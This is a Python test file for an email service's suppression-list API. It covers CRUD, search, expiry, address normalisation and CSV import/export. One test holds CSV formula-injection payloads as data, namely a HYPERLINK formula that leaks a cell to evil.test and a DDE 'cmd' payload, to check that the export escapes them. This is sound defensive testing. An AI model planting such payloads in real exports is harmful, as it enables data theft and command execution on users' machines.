"""Suppressions: CRUD, search, CSV import and export, expiry, and the in-process check."""

from __future__ import annotations

import csv
import datetime as dt
import io
from typing import get_args

from postwarden.control.csvfile import unescape_cell
from tests.control.conftest import ControlFactory
from tests.waiting import eventually


async def test_crud_search_and_the_check(control: ControlFactory) -> None:
    api = await control()
    key = await api.tenant("acme")
    async with api.client(key) as c:
        r = await c.post(
            "/v1/suppressions",
            json={"address": "Bob@Example.COM", "reason": "complaint", "note": "fbl"},
        )
        assert r.status_code == 201 and r.json()["address"] == "bob@example.com"
        for i in range(5):
            await c.post("/v1/suppressions", json={"address": f"user{i}@example.net"})
        r = await c.get("/v1/suppressions", params={"q": "example.net", "limit": 3})
        page = r.json()
        assert len(page["data"]) == 3 and page["next_cursor"]
        r = await c.get(
            "/v1/suppressions", params={"q": "example.net", "cursor": page["next_cursor"]}
        )
        assert len(r.json()["data"]) == 2 and r.json()["next_cursor"] is None
        r = await c.get("/v1/suppressions", params={"reason": "complaint"})
        assert [x["address"] for x in r.json()["data"]] == ["bob@example.com"]
        r = await c.get("/v1/suppressions/BOB@example.com")
        assert r.status_code == 200 and r.json()["reason"] == "complaint"
        # Replacing keeps one entry per address.
        r = await c.post(
            "/v1/suppressions", json={"address": "bob@example.com", "reason": "unsubscribe"}
        )
        assert r.status_code == 201
        assert len((await c.get("/v1/suppressions", params={"q": "bob"})).json()["data"]) == 1
        tid = (await c.get("/v1/keys")).json()["data"][0]["tenant_id"]
    check = api.app.control.suppressions.check
    # The process's suppression cache follows the change feed.
    await eventually(lambda: check(tid, "bob@example.com"), 10, "bob in the cache")
    assert check(tid, "BOB@EXAMPLE.COM") == "unsubscribe"
    assert check(tid, "someone@example.com") is None
    assert check(tid + 1, "bob@example.com") is None  # another tenant's list
    async with api.client(key) as c:
        assert (await c.delete("/v1/suppressions/bob@example.com")).status_code == 200
        assert (await c.get("/v1/suppressions/bob@example.com")).status_code == 404
        assert (await c.delete("/v1/suppressions/bob@example.com")).status_code == 404
    await eventually(lambda: check(tid, "bob@example.com") is None, 10, "bob out of the cache")
    assert check(tid, "bob@example.com") is None


async def test_expiry(control: ControlFactory) -> None:
    api = await control()
    key = await api.tenant("acme")
    # Far enough ahead that a loaded machine reads the cache before it expires; the
    # expiry itself is checked with ``now`` past it.
    soon = dt.datetime.now(dt.UTC) + dt.timedelta(seconds=120)
    async with api.client(key) as c:
        r = await c.post(
            "/v1/suppressions", json={"address": "t@example.com", "expires_at": soon.isoformat()}
        )
        assert r.status_code == 201
        r = await c.post(
            "/v1/suppressions",
            json={"address": "t@example.com", "expires_at": "2030-01-01T00:00:00"},
        )
        assert r.status_code == 422 and r.json()["error"]["fields"][0]["path"] == "expires_at"
        tid = (await c.get("/v1/keys")).json()["data"][0]["tenant_id"]
    check = api.app.control.suppressions.check
    await eventually(lambda: check(tid, "t@example.com"), 10, "t in the suppression cache")
    assert check(tid, "t@example.com") == "manual"
    assert check(tid, "t@example.com", now=soon.timestamp() + 1) is None


async def test_csv_import_reports_bad_lines_and_export_round_trips(control: ControlFactory) -> None:
    api = await control()
    key = await api.tenant("acme")
    body = (
        "address,reason,note,expires_at\r\n"
        "a@example.com,hard_bounce,550 5.1.1,\r\n"
        "not-an-address,manual,,\r\n"
        "b@example.com,spam,,\r\n"
        "c@example.com,,,2031-01-01T00:00:00+00:00\r\n"
        "d@example.com,unsubscribe,,tomorrow\r\n"
    )
    async with api.client(key) as c:
        r = await c.post(
            "/v1/suppressions/import", content=body.encode(), headers={"content-type": "text/csv"}
        )
        assert r.status_code == 200, r.text
        res = r.json()
        assert res["created"] == 2 and res["updated"] == 0
        assert [e["line"] for e in res["errors"]] == [3, 4, 6]
        # Importing again updates instead of duplicating.
        r = await c.post(
            "/v1/suppressions/import", content=body.encode(), headers={"content-type": "text/csv"}
        )
        assert r.json()["created"] == 0 and r.json()["updated"] == 2
        r = await c.post(
            "/v1/suppressions/import",
            content=b"email\r\nx@example.com\r\n",
            headers={"content-type": "text/csv"},
        )
        assert r.status_code == 422
        r = await c.post(
            "/v1/suppressions/import",
            content=b"address,colour\r\nx@example.com,red\r\n",
            headers={"content-type": "text/csv"},
        )
        assert r.status_code == 422 and "colour" in r.json()["error"]["message"]
        r = await c.get("/v1/suppressions/export")
        assert r.status_code == 200 and r.headers["content-type"].startswith("text/csv")
    rows = list(csv.DictReader(io.StringIO(r.text)))
    assert [(x["address"], x["reason"]) for x in rows] == [
        ("a@example.com", "hard_bounce"),
        ("c@example.com", "manual"),
    ]
    assert rows[0]["note"] == "550 5.1.1" and rows[1]["expires_at"].startswith("2031-01-01")
    # The export imports back into another tenant as it is.
    other = await api.tenant("other")
    async with api.client(other) as c:
        r = await c.post(
            "/v1/suppressions/import", content=r.content, headers={"content-type": "text/csv"}
        )
        assert r.json() == {"created": 2, "updated": 0, "errors": []}


def test_one_key_for_every_spelling_of_an_address() -> None:
    from postwarden.mail.addresses import normalize_address, suppression_key

    same = ["user@xn--bcher-kva.example", "USER@bücher.example", '"user"@BÜCHER.example']
    keys = {suppression_key(a) for a in same} | {
        suppression_key(normalize_address(a)) for a in same
    }
    assert keys == {"user@bücher.example"}
    # Quotes that are needed stay.
    assert suppression_key('"a b"@x.test') == '"a b"@x.test'


async def test_suppressed_address_is_found_in_its_other_spellings(control: ControlFactory) -> None:
    api = await control()
    key = await api.tenant("acme")
    async with api.client(key) as c:
        assert (
            await c.post("/v1/suppressions", json={"address": "bob@xn--bcher-kva.example"})
        ).status_code == 201
        tid = (await c.get("/v1/keys")).json()["data"][0]["tenant_id"]
    check = api.app.control.suppressions.check
    assert check(tid, '"bob"@b\u00fccher.example') == "manual"
    assert check(tid, "BOB@xn--bcher-kva.example") == "manual"


async def test_export_escapes_formulas_and_imports_back(control: ControlFactory) -> None:
    """Issue 15, item 12: a note like =HYPERLINK(...) is a formula in a spreadsheet;
    every cell that starts with = + - @ TAB or CR is written after a single quote, and
    the import undoes it."""
    api = await control()
    key = await api.tenant("acme")
    notes = {
        "a@example.com": '=HYPERLINK("http://evil.test/?"&A1,"click")',
        "b@example.com": "+1 call me",
        "-c@example.com": "@SUM(A1:A9)",
        "d@example.com": "\tcmd|' /C calc'!A0",
        "e@example.com": "'=already quoted",
        "f@example.com": "plain",
    }
    async with api.client(key) as c:
        for addr, note in notes.items():
            r = await c.post("/v1/suppressions", json={"address": addr, "note": note})
            assert r.status_code == 201, r.text
        r = await c.get("/v1/suppressions/export")
        assert r.status_code == 200
    rows = {x["address"]: x for x in csv.DictReader(io.StringIO(r.text))}
    assert rows["a@example.com"]["note"] == "'" + notes["a@example.com"]
    assert rows["b@example.com"]["note"] == "'+1 call me"
    assert rows["'-c@example.com"]["note"] == "'@SUM(A1:A9)"
    assert rows["d@example.com"]["note"].startswith("'\t")
    assert rows["e@example.com"]["note"] == "''=already quoted"
    assert rows["f@example.com"]["note"] == "plain"
    for row in rows.values():
        for cell in row.values():
            assert not cell or cell[0] not in "=+-@\t\r", row
    other = await api.tenant("other")
    async with api.client(other) as c:
        r2 = await c.post(
            "/v1/suppressions/import", content=r.content, headers={"content-type": "text/csv"}
        )
        assert r2.json() == {"created": len(notes), "updated": 0, "errors": []}
        back = (await c.get("/v1/suppressions", params={"limit": 100})).json()["data"]
    assert {x["address"]: x["note"] for x in back} == notes


def test_escape_is_undone_exactly() -> None:
    from hypothesis import given
    from hypothesis import strategies as st

    from postwarden.control.csvfile import FORMULA_START, escape_cell, unescape_cell

    @given(st.text(alphabet=st.sampled_from("=+-@\t\r'ab "), max_size=6))
    def check(s: str) -> None:
        out = escape_cell(s)
        assert unescape_cell(out) == s
        assert not out or out[0] not in FORMULA_START

    check()


async def test_export_imports_back_for_every_reason_and_column(control: ControlFactory) -> None:
    """Issue 16, item 2: entries of every reason, those only the appliance writes
    (hard_bounce, soft_bounce with its expiry, complaint: written by bounces.feedback as
    for a real bounce) included, export, are deleted, import back from the export and
    export again byte for byte the same: reason, source (an empty one too), note,
    created_at and expires_at."""
    from postwarden.bounces import feedback
    from postwarden.config import BouncesConfig
    from postwarden.control.schemas import Reason
    from postwarden.control.suppressions import CSV_FIELDS
    from postwarden.store.models import Event

    api = await control()
    key = await api.tenant("acme")
    async with api.client(key) as c:
        tid = (await c.get("/v1/keys")).json()["data"][0]["tenant_id"]
        for addr, body in {
            "unsub@example.com": {"reason": "unsubscribe", "source": "list-unsubscribe"},
            "manual@example.com": {"note": '=formula, "quoted"\nsecond line', "source": ""},
            "gone@example.com": {"expires_at": "2001-02-03T04:05:06.789+02:00"},
            "üser@bücher.example": {"reason": "complaint", "note": "by hand"},
        }.items():
            r = await c.post("/v1/suppressions", json={"address": addr, **body})
            assert r.status_code == 201, r.text
    # What bounces write, through the code that writes it when they come back.
    now = dt.datetime.now(dt.UTC)
    cfg = BouncesConfig(soft_bounce_limit=1)
    async with api.app.control.sessions() as s:
        out = await feedback.apply(
            s, cfg, tenant_id=tid, address="hard@example.org", kind="failure", hard=True,
            category="user_unknown", note="550 5.1.1 no such user", now=now,
        )  # fmt: skip
        assert out.suppressed == "hard_bounce"
        out = await feedback.apply(
            s, cfg, tenant_id=tid, address="fbl@example.org", kind="complaint", hard=None,
            category=None, note="abuse report", now=now,
        )  # fmt: skip
        assert out.suppressed == "complaint"
        s.add(
            Event(
                tenant_id=tid, ts=now, type="bounced", message_id="m1",
                recipient="full@example.org", detail={"hard": False, "category": "mailbox_full"},
            )
        )  # fmt: skip
        out = await feedback.apply(
            s, cfg, tenant_id=tid, address="full@example.org", kind="failure", hard=False,
            category="mailbox_full", note="452 4.2.2 mailbox full", now=now,
        )  # fmt: skip
        assert out.suppressed == "soft_bounce"
        await s.commit()
    async with api.client(key) as c:
        first = await c.get("/v1/suppressions/export")
        assert first.status_code == 200
        rows = list(csv.DictReader(io.StringIO(first.text)))
        assert {r["reason"] for r in rows} == set(get_args(Reason))
        soft = next(r for r in rows if r["reason"] == "soft_bounce")
        assert soft["source"] == "bounces" and soft["expires_at"]
        assert tuple(rows[0]) == CSV_FIELDS
        for row in rows:
            address = unescape_cell(row["address"])
            r = await c.delete(f"/v1/suppressions/{address}")
            assert r.status_code == 200, (address, r.text)
        assert (await c.get("/v1/suppressions")).json()["data"] == []
        r = await c.post(
            "/v1/suppressions/import", content=first.content, headers={"content-type": "text/csv"}
        )
        assert r.json() == {"created": len(rows), "updated": 0, "errors": []}, r.text
        again = await c.get("/v1/suppressions/export")
        # Importing over the entries that are there changes none of them either.
        r = await c.post(
            "/v1/suppressions/import", content=first.content, headers={"content-type": "text/csv"}
        )
        assert r.json() == {"created": 0, "updated": len(rows), "errors": []}, r.text
        third = await c.get("/v1/suppressions/export")
    assert again.text == first.text
    assert third.text == first.text
    # …and the import is in force: the check sees the soft bounce with its expiry.
    check = api.app.control.suppressions.check
    assert check(tid, "full@example.org") == "soft_bounce"
    assert check(tid, "gone@example.com") is None  # expired in 2001, as exported


async def test_import_refuses_what_it_would_have_to_cut(control: ControlFactory) -> None:
    api = await control()
    key = await api.tenant("acme")
    body = (
        "address,source,note,created_at\r\n"
        f"a@example.com,{'s' * 101},,\r\n"
        f"b@example.com,,{'n' * 2001},\r\n"
        "c@example.com,,,yesterday\r\n"
        "d@example.com,,,2020-01-01T00:00:00Z\r\n"
    )
    async with api.client(key) as c:
        r = await c.post(
            "/v1/suppressions/import", content=body.encode(), headers={"content-type": "text/csv"}
        )
        assert r.status_code == 200, r.text
        res = r.json()
        assert res["created"] == 1
        assert [(e["line"], e["message"].split(":")[0]) for e in res["errors"]] == [
            (2, "source"),
            (3, "note"),
            (4, "created_at"),
        ]
        d = (await c.get("/v1/suppressions/d@example.com")).json()
    assert d["created_at"].startswith("2020-01-01T00:00:00") and d["source"] == ""
